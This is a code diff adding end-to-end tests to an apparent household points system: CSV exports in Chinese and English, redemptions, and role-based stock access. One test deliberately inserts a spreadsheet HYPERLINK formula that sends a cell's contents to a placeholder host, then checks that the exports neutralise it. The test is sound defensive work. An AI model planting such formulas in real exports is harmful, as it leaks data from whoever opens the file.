@@ -1,6 +1,7 @@
 """Points over HTTP in the demo deployment: the bank's CSV of eligible households and the masked ranking."""
 import csv
 import io
+import re
 
 from tests.e2e.helpers import ok
 
@@ -48,3 +49,56 @@ def test_a_redemption_over_http_is_applied_once_per_key_and_clerks_stay_at_their
     code, body = api.call("clerk-yks", "POST", "/supermarkets/yks-market/redemptions", {"household_id": home, "sku": "rice-5kg"})
     assert code == 409 and body["error"]["code"] == "insufficient_points"
     assert api.call("dept-rq-agri", "GET", f"/households/{home}/ledger")[0] == 404
+
+
+FORMULA = '=HYPERLINK("http://x/?"&A2,"点击")'
+
+
+def csv_rows(api, user, path):
+    response = api.client.http.get(path, headers={"Authorization": f"Bearer {api.token(user)}"})
+    assert response.status_code == 200 and response.headers["Content-Type"].startswith("text/csv"), response.body
+    text = response.body.decode("utf-8") if isinstance(response.body, bytes) else response.body
+    assert text.startswith("\ufeff")
+    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
+
+
+def is_number(cell):
+    try:
+        float(cell)
+        return True
+    except ValueError:
+        return False
+
+
+def test_every_csv_neutralises_formulas_and_reads_in_chinese_or_in_english_on_request(api):
+    from tests.e2e.helpers import drive, new_case
+    home = household(api, FORMULA)
+    award(api, home, "helped_mediate", 3)
+    drive(api, new_case(api)["id"], "closed")
+    year = ok(api.call("evaluator-yks", "GET", f"/households/{home}/ledger"))["items"][0]["month"][:4]
+    exports = [("leader-rq", f"/privileges/star_household_priority/households?village=BZ.RQ.TGLK.YKS&period={year}"),
+               ("leader-rq", f"/rankings?node=BZ.RQ&level=county&year={year}"),
+               ("leader-rq", f"/statistics?node=BZ.RQ&period={year}")]
+    for user, path in exports:
+        for language, header_ok in (("", lambda h: all(re.search(r"[\u4e00-\u9fff]", c) for c in h)
+                                     and not any(re.search(r"[A-Za-z]", c) for c in h)),
+                                    ("&lang=en", lambda h: all(c.isascii() for c in h))):
+            rows = csv_rows(api, user, f"{path}&format=csv{language}")
+            assert header_ok(rows[0]), (path, language, rows[0])
+            cells = [c for row in rows for c in row if c]
+            assert not [c for c in cells if c[0] in "=+-@\t\r" and not is_number(c)], path
+            assert not {"True", "False", "None"} & set(cells), path
+    privileges = csv_rows(api, "leader-rq", exports[0][1] + "&format=csv")
+    assert "'" + FORMULA in privileges[1]                          # kept, but as text a spreadsheet will not run
+    ranking = csv_rows(api, "leader-rq", exports[1][1] + "&format=csv")
+    assert {row[ranking[0].index("资格")] for row in ranking[1:]} <= {"是", "否"}
+    english = csv_rows(api, "leader-rq", exports[1][1] + "&format=csv&lang=en")
+    assert {row[english[0].index("eligible")] for row in english[1:]} <= {"yes", "no"}
+
+
+def test_a_supermarkets_stock_is_read_only_by_its_clerks_and_the_admins_of_its_place(api):
+    for user in ("clerk-yks", "admin-bz"):
+        assert api.call(user, "GET", "/supermarkets/yks-market/stock")[0] == 200, user
+    for user in ("gm-elb-01", "gm-yks-01", "station-yks", "leader-rq", "evaluator-yks", "dept-rq-agri"):
+        code, body = api.call(user, "GET", "/supermarkets/yks-market/stock")
+        assert code == 403 and body["error"]["code"] == "forbidden", user
